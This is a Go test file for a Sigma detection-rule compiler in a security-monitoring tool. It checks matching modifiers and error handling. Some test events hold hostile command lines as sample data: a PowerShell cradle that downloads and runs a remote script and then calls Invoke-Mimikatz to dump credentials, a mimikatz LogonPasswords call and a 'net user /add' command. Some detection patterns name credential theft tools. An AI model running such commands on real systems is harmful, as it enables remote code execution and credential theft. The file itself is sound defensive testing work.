package sigma

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vigil-soc/vigil/internal/parse"
)

// compileDet compiles a dns-category rule with the given detection body.
func compileDet(t *testing.T, detection string) (*Compiled, error) {
	t.Helper()
	text := "title: t\nlogsource:\n    category: dns\ndetection:\n" + indent(detection)
	r, err := Parse([]byte(text))
	if err != nil {
		return nil, err
	}
	return Compile(r)
}

func indent(s string) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = "    " + l
	}
	return strings.Join(lines, "\n") + "\n"
}

func TestModifiers(t *testing.T) {
	ev := func(f parse.Event) *Event { return &Event{Source: "dns", Fields: f, Raw: "raw line"} }
	q := func(name string) *Event { return ev(parse.Event{"dns.question.name": name}) }
	cases := []struct {
		name string
		det  string
		ev   *Event
		want bool
	}{
		// Equality: case-insensitive, wildcards, escapes.
		{"equal", "s:\n    query: Example.COM\ncondition: s", q("example.com"), true},
		{"equal other", "s:\n    query: example.com\ncondition: s", q("example.org"), false},
		{"equal is whole", "s:\n    query: example\ncondition: s", q("example.com"), false},
		{"star", "s:\n    query: 'ex*.com'\ncondition: s", q("EXAMPLE.com"), true},
		{"question", "s:\n    query: 'ex?mple.com'\ncondition: s", q("exAmple.com"), true},
		{"question one char", "s:\n    query: 'ex?mple.com'\ncondition: s", q("exaample.com"), false},
		{"escaped star literal", "s:\n    query: 'a\\*b'\ncondition: s", q("a*b"), true},
		{"escaped star not wild", "s:\n    query: 'a\\*b'\ncondition: s", q("axxb"), false},
		{"escaped backslash then wildcard", "s:\n    query: 'a\\\\*'\ncondition: s", q(`a\anything`), true},
		{"plain backslash", "s:\n    query: 'a\\b'\ncondition: s", q(`a\b`), true},
		{"unicode fold", "s:\n    query: 'ÄBC'\ncondition: s", q("äbc"), true},
		{"list is or", "s:\n    query:\n        - a.com\n        - b.com\ncondition: s", q("b.com"), true},
		// contains / startswith / endswith.
		{"contains", "s:\n    query|contains: '==.'\ncondition: s", q("aGVsbG8==.evil.com"), true},
		{"contains no", "s:\n    query|contains: '==.'\ncondition: s", q("hello.evil.com"), false},
		{"contains case", "s:\n    query|contains: 'EVIL'\ncondition: s", q("x.evil.com"), true},
		{"startswith", "s:\n    query|startswith: 'api.'\ncondition: s", q("API.telegram.org"), true},
		{"startswith no", "s:\n    query|startswith: 'api.'\ncondition: s", q("x.api.telegram.org"), false},
		{"endswith", "s:\n    query|endswith: '.onion'\ncondition: s", q("abc.ONION"), true},
		{"endswith no", "s:\n    query|endswith: '.onion'\ncondition: s", q("abc.onion.com"), false},
		// A backslash at the end of a value is a backslash: the wildcard
		// contains or startswith adds after it is no escaped '*'
		// (SigmaHQ's Windows rules: Image|contains: '\').
		{"contains a backslash", "s:\n    query|contains: '\\'\ncondition: s", q(`C:\x.exe`), true},
		{"contains a backslash, none", "s:\n    query|contains: '\\'\ncondition: s", q("System"), false},
		{"contains a backslash, not a star", "s:\n    query|contains: '\\'\ncondition: s", q("a*b"), false},
		{"startswith ending in a backslash", "s:\n    query|startswith: 'C:\\'\ncondition: s", q(`c:\windows`), true},
		{"endswith a path", "s:\n    query|endswith: '\\cmd.exe'\ncondition: s", q(`C:\Windows\System32\cmd.exe`), true},
		{"endswith a path, other", "s:\n    query|endswith: '\\cmd.exe'\ncondition: s", q(`C:\x\notcmd.exe`), false},
		{"contains wildcard inside", "s:\n    query|contains: 'a*c'\ncondition: s", q("xxabbbcxx"), true},
		// all.
		{"all", "s:\n    query|contains|all:\n        - foo\n        - bar\ncondition: s", q("bar.foo.com"), true},
		{"all missing one", "s:\n    query|contains|all:\n        - foo\n        - bar\ncondition: s", q("foo.com"), false},
		// cased.
		{"cased", "s:\n    query|cased: Example.com\ncondition: s", q("Example.com"), true},
		{"cased differs", "s:\n    query|cased: Example.com\ncondition: s", q("example.com"), false},
		{"contains cased", "s:\n    query|contains|cased: EVIL\ncondition: s", q("x.evil.com"), false},
		// re and flags.
		{"re", "s:\n    query|re: '^[a-z]{3}\\.com$'\ncondition: s", q("abc.com"), true},
		{"re unanchored", "s:\n    query|re: 'b+c'\ncondition: s", q("abbbc.com"), true},
		{"re case-sensitive", "s:\n    query|re: '^ABC'\ncondition: s", q("abc.com"), false},
		{"re i", "s:\n    query|re|i: '^ABC'\ncondition: s", q("abc.com"), true},
		{"re m", "s:\n    message|re|m: '^two$'\ncondition: s", ev(parse.Event{"message": "one\ntwo\nthree"}), true},
		{"re without m", "s:\n    message|re: '^two$'\ncondition: s", ev(parse.Event{"message": "one\ntwo\nthree"}), false},
		{"re s", "s:\n    message|re|s: 'one.two'\ncondition: s", ev(parse.Event{"message": "one\ntwo"}), true},
		{"re without s", "s:\n    message|re: 'one.two'\ncondition: s", ev(parse.Event{"message": "one\ntwo"}), false},
		// cidr.
		{"cidr v4", "s:\n    src_ip|cidr: 10.0.0.0/8\ncondition: s", ev(parse.Event{"source.ip": "10.47.1.2"}), true},
		{"cidr v4 out", "s:\n    src_ip|cidr: 10.0.0.0/8\ncondition: s", ev(parse.Event{"source.ip": "11.0.0.1"}), false},
		{"cidr v6", "s:\n    src_ip|cidr: '2001:db8::/32'\ncondition: s", ev(parse.Event{"source.ip": "2001:db8::1"}), true},
		{"cidr not an address", "s:\n    src_ip|cidr: 10.0.0.0/8\ncondition: s", ev(parse.Event{"source.ip": "host"}), false},
		{"cidr list", "s:\n    src_ip|cidr:\n        - 192.168.0.0/16\n        - 10.0.0.0/8\ncondition: s", ev(parse.Event{"source.ip": "10.1.1.1"}), true},
		// windash.
		{"windash slash", "s:\n    CommandLine|windash|contains: ' -enc '\ncondition: s", ev(parse.Event{"process.command_line": "ps /enc abc"}), true},
		{"windash en dash", "s:\n    CommandLine|windash|contains: ' -enc '\ncondition: s", ev(parse.Event{"process.command_line": "ps \u2013enc abc"}), true},
		{"windash original", "s:\n    CommandLine|windash|contains: ' -enc '\ncondition: s", ev(parse.Event{"process.command_line": "ps -enc abc"}), true},
		{"windash other", "s:\n    CommandLine|windash|contains: ' -enc '\ncondition: s", ev(parse.Event{"process.command_line": "ps +enc abc"}), false},
		// After contains, as SigmaHQ's Windows rules write it.
		{"contains then windash", "s:\n    CommandLine|contains|windash: ' -enc '\ncondition: s", ev(parse.Event{"process.command_line": "ps /enc abc"}), true},
		{"contains then windash other", "s:\n    CommandLine|contains|windash: ' -enc '\ncondition: s", ev(parse.Event{"process.command_line": "ps +enc abc"}), false},
		// base64, base64offset, utf16.
		{"base64", "s:\n    CommandLine|base64: 'hello'\ncondition: s", ev(parse.Event{"process.command_line": "aGVsbG8="}), true},
		{"base64 contains", "s:\n    CommandLine|base64|contains: 'hello'\ncondition: s", ev(parse.Event{"process.command_line": "echo aGVsbG8= | base64 -d"}), true},
		{"base64offset 0", "s:\n    CommandLine|base64offset|contains: 'http://'\ncondition: s", ev(parse.Event{"process.command_line": "aHR0cDovL2V2aWwuY29t"}), true},
		{"base64offset 1", "s:\n    CommandLine|base64offset|contains: 'http://'\ncondition: s", ev(parse.Event{"process.command_line": "eGh0dHA6Ly9ldmlsLmNvbQ=="}), true},
		{"base64offset 2", "s:\n    CommandLine|base64offset|contains: 'http://'\ncondition: s", ev(parse.Event{"process.command_line": "eHhodHRwOi8vZXZpbC5jb20="}), true},
		{"base64offset none", "s:\n    CommandLine|base64offset|contains: 'http://'\ncondition: s", ev(parse.Event{"process.command_line": "ZnRwOi8vZXZpbC5jb20="}), false},
		{"utf16le base64", "s:\n    CommandLine|utf16le|base64: 'cmd'\ncondition: s", ev(parse.Event{"process.command_line": "YwBtAGQA"}), true},
		{"wide base64", "s:\n    CommandLine|wide|base64: 'cmd'\ncondition: s", ev(parse.Event{"process.command_line": "YwBtAGQA"}), true},
		{"utf16be base64", "s:\n    CommandLine|utf16be|base64: 'cmd'\ncondition: s", ev(parse.Event{"process.command_line": "AGMAbQBk"}), true},
		{"utf16 base64 bom", "s:\n    CommandLine|utf16|base64: 'cmd'\ncondition: s", ev(parse.Event{"process.command_line": "//5jAG0AZAA="}), true},
		// exists.
		{"exists true", "s:\n    query|exists: true\ncondition: s", q("x"), true},
		{"exists true absent", "s:\n    answer|exists: true\ncondition: s", q("x"), false},
		{"exists false absent", "s:\n    answer|exists: false\ncondition: s", q("x"), true},
		// null.
		{"null absent", "s:\n    answer: null\ncondition: s", q("x"), true},
		{"null empty", "s:\n    answer: null\ncondition: s", ev(parse.Event{"dns.answers.data": ""}), true},
		{"null present", "s:\n    answer: null\ncondition: s", ev(parse.Event{"dns.answers.data": "1.2.3.4"}), false},
		// fieldref.
		{"fieldref equal", "s:\n    src_ip|fieldref: dst_ip\ncondition: s", ev(parse.Event{"source.ip": "10.0.0.1", "destination.ip": "10.0.0.1"}), true},
		{"fieldref differ", "s:\n    src_ip|fieldref: dst_ip\ncondition: s", ev(parse.Event{"source.ip": "10.0.0.1", "destination.ip": "10.0.0.2"}), false},
		{"fieldref neq", "s:\n    src_ip|fieldref|neq: dst_ip\ncondition: s", ev(parse.Event{"source.ip": "10.0.0.1", "destination.ip": "10.0.0.2"}), true},
		// Numbers.
		{"number equal int field", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": int64(8080)}), true},
		{"number equal string field", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": "8080"}), true},
		{"number differs", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": int64(80)}), false},
		{"string value int field", "s:\n    dst_port: '80'\ncondition: s", ev(parse.Event{"destination.port": int64(80)}), true},
		{"lt", "s:\n    dst_port|lt: 1024\ncondition: s", ev(parse.Event{"destination.port": int64(22)}), true},
		{"lt equal", "s:\n    dst_port|lt: 22\ncondition: s", ev(parse.Event{"destination.port": int64(22)}), false},
		{"lte", "s:\n    dst_port|lte: 22\ncondition: s", ev(parse.Event{"destination.port": int64(22)}), true},
		{"gt", "s:\n    dst_port|gt: 1024\ncondition: s", ev(parse.Event{"destination.port": int64(50000)}), true},
		{"gt no", "s:\n    dst_port|gt: 1024\ncondition: s", ev(parse.Event{"destination.port": int64(443)}), false},
		{"gte string number", "s:\n    dst_port|gte: 1024\ncondition: s", ev(parse.Event{"destination.port": "1024"}), true},
		{"gt not a number", "s:\n    dst_port|gt: 1\ncondition: s", ev(parse.Event{"destination.port": "high"}), false},
		// neq.
		{"neq", "s:\n    record_type|neq: A\ncondition: s", ev(parse.Event{"dns.question.type": "TXT"}), true},
		{"neq equal", "s:\n    record_type|neq: A\ncondition: s", ev(parse.Event{"dns.question.type": "a"}), false},
		// Lists of field values: any element.
		{"list field", "s:\n    answer|endswith: '.evil.com'\ncondition: s", ev(parse.Event{"dns.answers.data": []string{"1.2.3.4", "cname.evil.com"}}), true},
		{"booleans", "s:\n    zeek.dns.rejected: true\ncondition: s", ev(parse.Event{"zeek.dns.rejected": true}), true},
		{"booleans differ", "s:\n    zeek.dns.rejected: false\ncondition: s", ev(parse.Event{"zeek.dns.rejected": true}), false},
		// expand without placeholders.
		{"expand escaped", "s:\n    query|expand: 'a\\%b%c'\ncondition: s", q("a%b%c"), true},
		// Keywords.
		{"keyword", "k:\n    - 'raw'\ncondition: k", ev(parse.Event{}), true},
		{"keyword no", "k:\n    - 'cooked'\ncondition: k", ev(parse.Event{}), false},
		{"keyword all", "k:\n    '|all':\n        - raw\n        - line\ncondition: k", ev(parse.Event{}), true},
		{"keyword all missing", "k:\n    '|all':\n        - raw\n        - nope\ncondition: k", ev(parse.Event{}), false},
		{"keyword re", "k:\n    '|re': '^raw l'\ncondition: k", ev(parse.Event{}), true},
		// Globs (with ?, or not ASCII) are found without the regular
		// expression only where that cannot change the answer: (?i)
		// matches k as the Kelvin sign and s as the long s.
		{"question, kelvin sign", "s:\n    query: 'a?kk'\ncondition: s", q("ab\u212a\u212a"), true},
		{"question, long s", "s:\n    query: 'a?ss'\ncondition: s", q("ab\u017fS"), true},
		{"question, other", "s:\n    query: 'a?kz'\ncondition: s", q("abk"), false},
		{"not ascii contains", "s:\n    CommandLine|contains: '\u2013Decode '\ncondition: s", ev(parse.Event{"process.command_line": "certutil \u2013DECODE x"}), true},
		{"not ascii contains, other dash", "s:\n    CommandLine|contains: '\u2013decode '\ncondition: s", ev(parse.Event{"process.command_line": "certutil \u2014decode x"}), false},
		{"cased question", "s:\n    query|cased: 'A?c'\ncondition: s", q("Abc"), true},
		{"cased question, case", "s:\n    query|cased: 'A?c'\ncondition: s", q("abc"), false},
		// Numbers written otherwise in the field.
		{"number, leading zero", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": "08080"}), true},
		{"number, decimal", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": "8080.0"}), true},
		{"number, other integer", "s:\n    dst_port: 8080\ncondition: s", ev(parse.Event{"destination.port": "8081"}), false},
		// Long values, whose grams rule substrings out.
		{"contains in a long value", "s:\n    CommandLine|contains: 'invoke-mimikatz'\ncondition: s",
			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1'); Invoke-Mimikatz -DumpCreds"`}), true},
		{"contains in a long value, none", "s:\n    CommandLine|contains: 'invoke-mimikatz'\ncondition: s",
			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1'); Invoke-Kerberoast"`}), false},
		{"segments in a long value", "s:\n    CommandLine|contains: 'net*download'\ncondition: s",
			ev(parse.Event{"process.command_line": `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/x.ps1')"`}), true},
		// Selections a guard finds by a substring of the value's
		// lower-case form (guardLiteral), matched both ways.
		{"guard, contains all", "s:\n    CommandLine|contains|all: ['sekurlsa::', 'logonpasswords']\ncondition: s",
			ev(parse.Event{"process.command_line": "mimikatz.exe SEKURLSA::LogonPasswords exit"}), true},
		{"guard, contains all, one missing", "s:\n    CommandLine|contains|all: ['sekurlsa::', 'logonpasswords']\ncondition: s",
			ev(parse.Event{"process.command_line": "mimikatz.exe sekurlsa::tickets exit"}), false},
		{"guard, cased contains", "s:\n    CommandLine|contains|cased: 'Invoke-'\ncondition: s",
			ev(parse.Event{"process.command_line": "powershell Invoke-Expression"}), true},
		{"guard, cased contains, other case", "s:\n    CommandLine|contains|cased: 'Invoke-'\ncondition: s",
			ev(parse.Event{"process.command_line": "powershell INVOKE-Expression"}), false},
		{"guard, startswith", "s:\n    Image|startswith: 'C:\\Windows\\Temp\\'\ncondition: s",
			ev(parse.Event{"process.name": `c:\windows\TEMP\x.exe`}), true},
		{"guard, endswith not a file name", "s:\n    Image|endswith: '\\AppData\\Local\\Temp\\x.exe'\ncondition: s",
			ev(parse.Event{"process.name": `C:\Users\a\appdata\local\temp\X.EXE`}), true},
		{"guard, glob", "s:\n    CommandLine: '*net?user *'\ncondition: s",
			ev(parse.Event{"process.command_line": "NET USER admin /add"}), true},
		{"guard, glob, other", "s:\n    CommandLine: '*net?user *'\ncondition: s",
			ev(parse.Event{"process.command_line": "net localgroup admins"}), false},
		{"guard, windash", "s:\n    CommandLine|windash|contains: '-encodedcommand'\ncondition: s",
			ev(parse.Event{"process.command_line": "powershell /EncodedCommand SQBFAFgA"}), true},
		{"guard, short literal left to the rule", "s:\n    CommandLine|contains: '/c'\ncondition: s",
			ev(parse.Event{"process.command_line": "cmd.exe /C whoami"}), true},
		{"guard, not a string", "s:\n    dst_port|contains: '44'\ncondition: s",
			ev(parse.Event{"destination.port": int64(4443)}), true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := compileDet(t, c.det)
			if err != nil {
				t.Fatalf("compile: %v", err)
			}
			if got := r.Match(c.ev); got != c.want {
				t.Errorf("Match = %v, want %v", got, c.want)
			}
			if got := matchPrepared(r, c.ev); got != c.want {
				t.Errorf("MatchPrepared = %v, want %v", got, c.want)
			}
		})
	}
}

// matchPrepared matches ev as the pipeline does: through a Prepared
// event.
func matchPrepared(r *Compiled, ev *Event) bool {
	p := NewPrepared(r.FieldSet())
	p.Reset(*ev)
	return r.InScopePrepared(p) && r.MatchPrepared(p)
}

// TestModifierErrors: a rule that Vigil cannot run is refused naming the
// selection and the reason.
func TestModifierErrors(t *testing.T) {
	cases := []struct {
		name, det, field, reason string
	}{
		{"unknown modifier", "s:\n    query|sounds_like: x\ncondition: s", "detection.s.query|sounds_like", `unknown modifier "sounds_like"`},
		{"time modifier", "s:\n    query|hour: 3\ncondition: s", "detection.s.query|hour", "not supported"},
		{"two match types", "s:\n    query|contains|startswith: x\ncondition: s", "detection.s.query|contains|startswith", "do not combine"},
		{"re flag alone", "s:\n    query|i: x\ncondition: s", "detection.s.query|i", "flag of re"},
		{"bad regexp", "s:\n    query|re: '(?<=a)b'\ncondition: s", "detection.s.query|re", "RE2"},
		{"bad cidr", "s:\n    src_ip|cidr: 10.0.0/8\ncondition: s", "detection.s.src_ip|cidr", "no network"},
		{"numeric not a number", "s:\n    dst_port|gt: high\ncondition: s", "detection.s.dst_port|gt", "number"},
		{"exists not bool", "s:\n    query|exists: yes please\ncondition: s", "detection.s.query|exists", "true or false"},
		{"all single", "s:\n    query|contains|all: x\ncondition: s", "detection.s.query|contains|all", "list of values"},
		{"unknown field", "s:\n    FancyField: x\ncondition: s", "detection.s.FancyField", "unknown field"},
		{"expand placeholder", "s:\n    query|expand: '%Servers%'\ncondition: s", "detection.s.query|expand", "placeholder"},
		{"transform after match", "s:\n    query|contains|base64: x\ncondition: s", "detection.s.query|contains|base64", "comes before"},
		{"cased re", "s:\n    query|re|cased: x\ncondition: s", "detection.s.query|re|cased", "cased"},
		{"windash too many", "s:\n    CommandLine|windash: '-a -b -c -d -e'\ncondition: s", "detection.s.CommandLine|windash", "flags"},
		{"null with modifier", "s:\n    query|contains: null\ncondition: s", "detection.s.query|contains", "null"},
		{"unknown identifier", "s:\n    query: x\ncondition: s and t", "detection.condition", `unknown search identifier "t"`},
		{"pattern matches nothing", "s:\n    query: x\ncondition: 1 of filter*", "detection.condition", "matches no search identifier"},
		{"sigma 1 aggregation", "s:\n    query: x\ncondition: s | count() > 5", "detection.condition", "correlation rule"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := compileDet(t, c.det)
			e, ok := err.(*Error)
			if !ok {
				t.Fatalf("err = %v (%T), want *Error", err, err)
			}
			if e.Field != c.field || !strings.Contains(e.Reason, c.reason) {
				t.Errorf("err = %q / %q, want %q / …%q…", e.Field, e.Reason, c.field, c.reason)
			}
		})
	}
}

func TestWindashPermutations(t *testing.T) {
	got, err := windash("-a /b", "p")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 25 {
		t.Fatalf("%d permutations, want 25: %q", len(got), got)
	}
	// A dash inside a word is no flag.
	got, _ = windash("x-y", "p")
	if len(got) != 1 || got[0] != "x-y" {
		t.Errorf("windash(x-y) = %q", got)
	}
}

func TestBase64Offsets(t *testing.T) {
	// The three forms pySigma gives for "http://".
	got := base64Offsets("http://")
	want := []string{"aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("base64Offsets = %q, want %q", got, want)
	}
}

func TestIndexFoldASCII(t *testing.T) {
	for _, c := range []struct {
		s, lower string
		want     int
	}{
		{"Hello World", "world", 6}, {"hello", "hello", 0}, {"xHeLLo", "hello", 1}, {"hell", "hello", -1},
		{"", "a", -1}, {"abc", "", 0}, {"aAaAb", "ab", 3}, {"AAAAB", "aab", 2}, {"x-y-Z", "-z", 3}, {"ab", "b", 1},
	} {
		if got := indexFoldASCII(c.s, c.lower); got != c.want {
			t.Errorf("indexFoldASCII(%q, %q) = %d, want %d", c.s, c.lower, got, c.want)
		}
	}
}

func FuzzIndexFoldASCII(f *testing.F) {
	f.Add("Hello World", "world")
	f.Add("aAaAb", "ab")
	f.Fuzz(func(t *testing.T, s, sub string) {
		if !isASCII(sub) {
			return
		}
		lower := strings.ToLower(sub)
		folded := []byte(s) // ASCII letters folded byte by byte, other bytes kept
		for i, c := range folded {
			if c >= 'A' && c <= 'Z' {
				folded[i] = c + 'a' - 'A'
			}
		}
		want := strings.Index(string(folded), lower)
		if got := indexFoldASCII(s, lower); got != want {
			t.Fatalf("indexFoldASCII(%q, %q) = %d, want %d", s, lower, got, want)
		}
	})
}

// TestExpansionBounded: transforms cannot multiply a rule's values past
// the bound (a rule within the size limit that would compile millions of
// matchers is refused).
func TestExpansionBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("s:\n    CommandLine|windash|contains:\n")
	for i := 0; i < 100; i++ {
		fmt.Fprintf(&b, "        - '-a%d -b -c -d'\n", i)
	}
	b.WriteString("condition: s")
	_, err := compileDet(t, b.String())
	if err == nil || !strings.Contains(err.Error(), "more than 10000 strings") {
		t.Fatalf("err = %v", err)
	}
}
